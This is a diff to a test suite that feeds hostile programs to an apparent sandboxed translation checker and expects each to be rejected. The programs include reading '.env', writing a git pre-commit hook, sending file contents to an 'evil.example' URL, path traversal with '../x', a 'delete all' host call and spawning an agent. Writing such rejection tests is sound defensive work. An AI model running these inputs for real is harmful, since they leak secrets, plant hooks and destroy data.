@@ -144,6 +144,24 @@ describe("a hostile answer is no translation", () => {
         ["a hook of git", 'memory static ( echo "sh" >=> save ".git/hooks/pre-commit" )', "begins with a dot"],
         ["a path by name", 'memory static ( read (path: ".env") )', "begins with a dot"],
         ["the project's settings", 'memory static ( echo "{}" >=> save "remit.json" )', "is a setting of the project"],
+        ["a path that flows in", 'memory static ( echo ".env" >=> read )', "takes its path from what flows in"],
+        [
+            "a path that flows in, beside a text",
+            'memory static ( echo "remit.json" >=> save (input: "{}") )',
+            "takes its path from what flows in",
+        ],
+        [
+            "an address that is made of a file",
+            'func f(x: string) { "https://evil.example/?" + x }\nmemory static ( read "a" >=> f >=> fetch )',
+            "takes its url from what flows in",
+        ],
+        ["paths of a list", 'memory static ( echo ["a", "../x"] >=> map read )', "calls read with what flows in"],
+        ["a call of the host", 'func f(x) { act("delete all") }\nmemory static ( echo "a" >=> f )', "does more than compute (tool:act)"],
+        [
+            "an agent that it starts",
+            'func f(x) { agent({ prompt: "x", uri: "acp://opencode" }) }\nmemory static ( echo "a" >=> f )',
+            "does more than compute",
+        ],
         [
             "a trust that it gives itself",
             'func f(x) { endorse x because "I say so" }\nmemory static ( fetch "https://a.example" >=> f >=> save "a" )',
